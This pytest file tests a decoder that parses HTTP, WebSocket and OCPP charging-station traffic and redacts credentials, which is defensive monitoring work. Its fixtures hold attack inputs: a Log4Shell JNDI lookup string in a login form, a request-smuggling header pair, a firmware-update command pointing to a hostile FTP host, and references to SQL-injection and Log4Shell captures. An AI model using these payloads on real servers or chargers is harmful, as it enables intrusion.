"""HTTP against real captures and hostile bytes; WebSocket and OCPP inside it."""

from __future__ import annotations

import base64
import json
import random
import subprocess
import zlib
from pathlib import Path
from typing import Any

import pytest

from cityward.checks import check_decoder
from collectors.packets.decoders.http import Http
from collectors.packets.packets import Packets
from tests.collectors.packets.decoders.streams import Wire, decoded, session
from tests.collectors.packets.wire import ACK, chunk, collected, pcap, seconds, segment
from tests.programs import PATIENCE_S, program

Talk = list[tuple[bool, bytes]]


def request(line: str, *names: str, body: bytes = b"") -> bytes:
    return (
        "\r\n".join([f"{line} HTTP/1.1", "Host: cpo.example:9000", *names, "", ""]).encode() + body
    )


def frame(text: bytes, masked: bool, first: int = 0x81) -> bytes:
    size = len(text)
    head = bytes([size]) if size < 126 else b"\x7e" + size.to_bytes(2)
    if not masked:
        return bytes([first]) + head + text
    mask = b"\x11\x22\x33\x44"
    hidden = bytes(byte ^ mask[number & 3] for number, byte in enumerate(text))
    return bytes([first, head[0] | 128]) + head[1:] + mask + hidden


def ocpp(*message: Any, charger: bool) -> tuple[bool, bytes]:
    return charger, frame(json.dumps(message).encode(), charger)


BASIC = base64.b64encode(b"CP-17:s3cr3t-word").decode()
UPGRADE = request("GET /ocpp/CP-17", "Upgrade: websocket", "Connection: Upgrade",
                  "Sec-WebSocket-Key: x", "Sec-WebSocket-Protocol: ocpp1.6",
                  f"Authorization: Basic {BASIC}")  # fmt: skip
SWITCHED = (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Protocol: ocpp1.6\r\n\r\n")  # fmt: skip

WEB: Talk = [
    (True, request("POST /login?next=/", "User-Agent: curl/8", "Content-Length: 27",
                   "Content-Type: application/x-www-form-urlencoded",
                   body=b"user=ann&password=letmein99")),
    (False, b"HTTP/1.1 403 Forbidden\r\nContent-Type: text/html; charset=utf-8\r\n"
            b"Transfer-Encoding: chunked\r\nServer: nginx\r\n\r\n5\r\nhello\r\n"
            b"3;x=y\r\nyou\r\n0\r\nTrailer: 1\r\n\r\n"),
    (True, request("GET /a") + request("GET /b") + request("HEAD /c")),
    (False, b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc"
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
            b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n"),
]  # fmt: skip

CHARGER: Talk = [
    (True, UPGRADE),
    (False, SWITCHED),
    ocpp(2, "1", "BootNotification", {"chargePointVendor": "V", "chargePointModel": "M",
                                      "firmwareVersion": "2.4"}, charger=True),
    ocpp(3, "1", {"status": "Accepted", "interval": 300}, charger=False),
    ocpp(2, "2", "Authorize", {"idTag": "04AABBCC"}, charger=True),
    ocpp(3, "2", {"idTagInfo": {"status": "Invalid"}}, charger=False),
    ocpp(2, "a", "UpdateFirmware", {"location": "ftp://u:pw@bad.example/f.bin"}, charger=False),
    ocpp(3, "a", {}, charger=True),
    (False, frame(b"", False, 0x89)),
    (True, frame(b"", True, 0x8A)),
    ocpp(2, "b", "ChangeConfiguration", {"key": "AuthorizationKey", "value": "0a0b0c0d"},
         charger=False),
    ocpp(4, "b", "NotSupported", "no such key", {}, charger=True),
    ocpp(2, "3", "MeterValues", {"connectorId": 2, "meterValue": [{
        "timestamp": "2026-01-05T10:00:00Z",
        "sampledValue": [{"value": "7.5", "unit": "kW", "measurand": "Power.Active.Import"}],
    }]}, charger=True),
    ocpp(3, "3", {}, charger=False),
    (True, frame(b"\x03\xe8", True, 0x88)),
]  # fmt: skip


def wire() -> Wire:
    return Wire(Http(session()))


def said(talk: Talk) -> list[dict[str, Any]]:
    line = wire()
    found = [fields for who, data in talk for fields in line.send(data, who)]
    return [*found, *line.decoder.end()]


@pytest.mark.parametrize("talk", [WEB, CHARGER], ids=["web", "ocpp"])
def test_the_decoder_keeps_its_promises(talk: Talk) -> None:
    check_decoder(Http, talk, mutants_each=4)


def test_requests_and_responses_are_paired_in_order_and_bodies_are_passed_over() -> None:
    found = said(WEB)

    requests = [one for one in found if one["event.action"] == "http_request"]
    answers = [one for one in found if one["event.action"] == "http_response"]
    assert [one["url.path"] for one in requests] == ["/login", "/a", "/b", "/c"]
    assert [one["url.path"] for one in answers] == ["/login", "/a", "/b", "/c"]
    assert [one["http.response.status_code"] for one in answers] == [403, 200, 404, 200]
    assert [a["ot.link_id"] for a in requests] == [b["ot.link_id"] for b in answers]
    assert answers[0]["http.response.mime_type"] == "text/html"
    assert answers[0]["event.outcome"] == "failure"
    assert len(found) == 8


def test_a_form_is_kept_without_its_password() -> None:
    login = said(WEB)[0]

    assert login["http.request.body.content"] == "user=ann&password=***"
    assert login["url.query"] == "next=/"
    assert login["url.full"] == "http://cpo.example:9000/login?next=/"
    assert login["url.domain"] == "cpo.example"


def test_credentials_are_a_user_name_and_never_a_password() -> None:
    found = said(CHARGER)

    assert found[0]["user.name"] == "CP-17"
    for secret in ("s3cr3t-word", "0a0b0c0d", "u:pw", BASIC):
        assert secret not in repr(found)


def test_tokens_in_addresses_and_subprotocols_are_not_kept() -> None:
    bearer = "base64url.bearer.authorization.example.c2VjcmV0"
    found = said(
        [
            (
                True,
                b"GET http://ann:s3cret@a/x?access_token=s3cret HTTP/1.1\r\nHost: a\r\n"
                b"Referer: http://a/login?pwd=s3cret\r\n"
                b"Sec-WebSocket-Protocol: ocpp1.6, " + bearer.encode() + b"\r\n\r\n",
            ),
            (
                False,
                b"HTTP/1.1 302 Found\r\nLocation: /in?sessionid=s3cret\r\n"
                b"Content-Length: 0\r\n\r\n",
            ),
            (True, b"GET /y?token=s3cret\r\n\r\n"),
        ]
    )

    assert "s3cret" not in repr(found)
    assert bearer not in repr(found)
    assert found[0]["url.original"] == "http://***@a/x?access_token=***"
    assert found[0]["url.domain"] == "a"
    assert found[0]["cw.vendor"]["sec-websocket-protocol"] == "ocpp1.6, ***"


def test_an_attack_in_a_password_is_kept() -> None:
    body = b"user=a&password=${jndi:ldap://x/a}"
    found = said([(True, request("POST /", f"Content-Length: {len(body)}", body=body))])

    assert "${jndi:ldap://x/a}" in found[0]["http.request.body.content"]


def test_a_long_body_is_cut_and_counted() -> None:
    body = b"x=" + b"a" * 5_000
    line = wire()
    head = request("POST /", f"Content-Length: {len(body)}")

    found = [*line.send(head, True), *line.send(body[:1_000], True), *line.send(body[1_000:], True),
             *line.send(request("GET /next"), True)]  # fmt: skip

    assert len(found[0]["http.request.body.content"]) == 2_048
    assert found[0]["http.request.body.bytes"] == len(body)
    assert found[1]["url.path"] == "/next"


@pytest.mark.parametrize(
    ("talk", "why"),
    [
        ([(True, request("GET /", "Content-Length: 4x"))], "Content-Length '4x' is no length"),
        ([(True, request("POST /", "Content-Length: 4", "Transfer-Encoding: chunked",
                         body=b"0\r\n\r\n"))], "as in request smuggling"),
        ([(True, request("POST /", "Transfer-Encoding: chunked", body=b"zz\r\n"))],
         "no size of a chunk: b'zz\\r\\n'"),
        ([(True, b"GET / HTTP/1.1\r\nHost a\r\n\r\n")], "a line is no named value: 'Host'"),
        ([(True, b"GET /" + b"a" * 600), (True, b"\r\n\r\n")], "no request line"),
        ([(True, request("GET /"))], "no response to the GET"),
        ([(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")], "no request was seen"),
        ([(True, request("GET /")), (True, b"GET /x HT")], "9 bytes into a head of the client"),
    ],
)  # fmt: skip
def test_what_is_wrong_is_said(talk: Talk, why: str) -> None:
    assert why in "; ".join(one.get("event.reason", "") for one in said(talk))


def test_after_a_gap_the_next_head_is_found() -> None:
    line = wire()
    line.send(request("POST /", "Content-Length: 100000"), True)
    line.decoder.gap(True)

    found = line.send(b"rest of a body\r\n" + request("GET /next"), True)

    assert [one.get("url.path") for one in found] == ["/", "/next"]
    assert found[0]["event.reason"] == "bytes of its body are missing"


def test_random_bytes_and_other_protocols_are_not_claimed() -> None:
    chance = random.Random(3)
    strange = [chance.randbytes(chance.randint(1, 300)) for _ in range(5_000)]
    others = [
        b"OPTIONS rtsp://10.0.0.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n",
        b"SSH-2.0-x\r\n",
        b"INVITE sip:a@b SIP/2.0\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"HELP\r\n",
    ]

    assert [one for one in (*strange, *others) if Http.recognises(one)] == []


# ---- WebSocket and OCPP


def test_calls_and_answers_of_a_charging_station_are_joined() -> None:
    found = [one for one in said(CHARGER) if one["network.protocol"] == "ocpp"]

    assert [one["event.action"] for one in found] == [
        *("ocpp_boot_notification",) * 2,
        *("ocpp_authorize",) * 2,
        *("ocpp_update_firmware",) * 2,
        *("ocpp_change_configuration",) * 2,
        *("ocpp_meter_values",) * 2,
    ]
    assert {one["ot.charger.id"] for one in found} == {"CP-17"}
    assert [one["ot.link_id"] for one in found[::2]] == [one["ot.link_id"] for one in found[1::2]]
    assert {one["cw.logsource.service"] for one in found} == {"ocpp"}
    assert found[0]["ot.firmware.version"] == "2.4"


def test_what_a_charging_station_is_told_and_says_has_its_fields() -> None:
    found = [one for one in said(CHARGER) if one["network.protocol"] == "ocpp"]

    assert found[2]["phys.subject"] == "04AABBCC"
    assert (found[3]["event.outcome"], found[3]["ot.exception"]) == ("failure", "Invalid")
    assert (found[4]["ot.is_command"], found[4]["ot.operation"]) == (True, "firmware")
    assert found[4]["url.domain"] == "bad.example"
    assert found[6]["ot.point.tag"] == "AuthorizationKey"
    assert (found[7]["ot.exception"], found[7]["event.reason"]) == ("NotSupported", "no such key")
    assert (found[8]["ot.charger.connector"], found[8]["ot.value"]) == ("2", 7.5)
    assert found[8]["ot.unit_of_measure"] == "kW"


def test_ocpp_is_known_by_its_first_call_where_no_sub_protocol_says_it() -> None:
    plain = [(who, data.replace(b"Sec-WebSocket-Protocol: ocpp1.6\r\n", b""))
             for who, data in CHARGER[:4]]  # fmt: skip

    assert [one["network.protocol"] for one in said(plain)[2:]] == ["ocpp", "ocpp"]


def test_a_message_in_fragments_and_deflated_is_read() -> None:
    text = json.dumps([2, "9", "Reset", {"type": "Hard"}]).encode()
    packed = zlib.compressobj(wbits=-15)
    deflated = (packed.compress(text) + packed.flush(zlib.Z_SYNC_FLUSH))[:-4]
    switched = SWITCHED[:-2] + b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    line = wire()
    line.send(UPGRADE, True)
    line.send(switched, False)

    found = [
        *line.send(frame(text[:9], False, 0x01) + frame(b"x", False, 0x89), False),
        *line.send(frame(text[9:], False, 0x80) + frame(deflated, False, 0xC1), False),
    ]

    assert [one["event.action"] for one in found] == ["websocket_ping", "ocpp_reset", "ocpp_reset"]
    assert found[1]["cw.vendor"]["type"] == found[2]["cw.vendor"]["type"] == "Hard"
    assert found[2]["event.reason"] == "a message id that is in use"


@pytest.mark.parametrize("text", [b"[1]", b"{}", b"[2,3,4,5]", b'[9,"a","b",{}]', b"[2,", b"\xff"])
def test_a_message_that_is_no_ocpp_is_said(text: bytes) -> None:
    found = said([*CHARGER[:2], (True, frame(text, True))])

    assert found[2]["event.kind"] == "pipeline_error"


def test_an_unmasked_frame_of_a_client_is_said() -> None:
    found = said([*CHARGER[:2], (True, frame(b"abc", False))])

    assert found[2]["event.reason"] == "bytes that are no WebSocket frame"


def test_a_command_nobody_answered_is_said_at_the_end() -> None:
    reset = ocpp(2, "r", "Reset", {"type": "Soft"}, charger=False)

    left = said([*CHARGER[:2], reset])[-1]

    assert (left["event.action"], left["event.reason"]) == (
        *("ocpp_unanswered", "no answer to the Reset"),
    )


def test_ocpp_in_a_capture_has_a_log_source_of_its_own() -> None:
    seqs, packets = {True: 1, False: 1}, []
    for at, (who, data) in enumerate(CHARGER):
        ends = ("10.0.0.1", 40_000, "10.0.0.2", 9_000)
        a, b, c, d = ends if who else (*ends[2:], *ends[:2])
        packets.append((at * 0.1, segment(a, b, c, d, ACK, seqs[who], data)))
        seqs[who] += len(data)

    events = collected(Packets(), [chunk(seconds(*packets))])

    sources = {str(one.fields["event.action"]): str(one.logsource) for one in events}
    assert sources["ocpp_update_firmware"] == "*/ot_protocol/ocpp"
    assert sources["http_request"] == "*/webserver/http"


@pytest.mark.slow
def test_tshark_sees_the_same_messages_in_the_websocket(tmp_path: Path) -> None:
    ends = ("10.0.0.1", 40_000, "10.0.0.2", 9_000)
    seqs, packets = {True: 1, False: 1}, []
    for at, (who, data) in enumerate(CHARGER):
        a, b, c, d = ends if who else (*ends[2:], *ends[:2])
        packets.append((at * 0.1, segment(a, b, c, d, ACK, seqs[who], data)))
        seqs[who] += len(data)
    capture = tmp_path / "ocpp.pcap"
    capture.write_bytes(pcap(seconds(*packets)))

    asked = [
        "-d",
        "tcp.port==9000,http",
        "-Y",
        "websocket",
        "-T",
        "fields",
        "-e",
        "websocket.opcode",
    ]
    shown = subprocess.run(
        [program("tshark"), "-r", str(capture), *asked],
        capture_output=True, text=True, check=True, timeout=PATIENCE_S,
    ).stdout.split()  # fmt: skip

    names = {"1": "ocpp", "8": "websocket_close", "9": "websocket_ping", "10": "websocket_pong"}
    ours = [
        "ocpp" if one["network.protocol"] == "ocpp" else one["event.action"]
        for one in said(CHARGER)[2:]
    ]
    assert ours == [names[opcode] for opcode in shown]


# ---- Real captures


def test_all_requests_and_replies_of_the_web_shop_are_read(data: Path) -> None:
    found = list(decoded(Http, data / "network/web_sql_injection.pcap", 80))

    requests = [(at, one) for at, one in found if one["event.action"] == "http_request"]
    answers = [one for _, one in found if one["event.action"] == "http_response"]
    assert [at for at, _ in requests] == [4, 15, 25, 35, 46, 56, 66, 76, 86]
    assert [one["http.response.status_code"] for one in answers] == [200] * 9
    assert [at for at, one in requests if "union" in one["url.query"]] == [25, 35, 46, 76, 86]
    assert all("ot.link_id" in one for one in answers)
    assert {one.get("event.kind") for _, one in found} == {None}


def test_the_login_with_the_jndi_string_is_read(data: Path) -> None:
    found = list(decoded(Http, data / "network/log4shell.pcap", 8080))

    login = next(one for at, one in found if at == 4)
    assert login["http.request.method"] == "POST"
    assert "jndi" in login["http.request.body.content"]
    assert login["source.ip"] == "172.16.238.1"
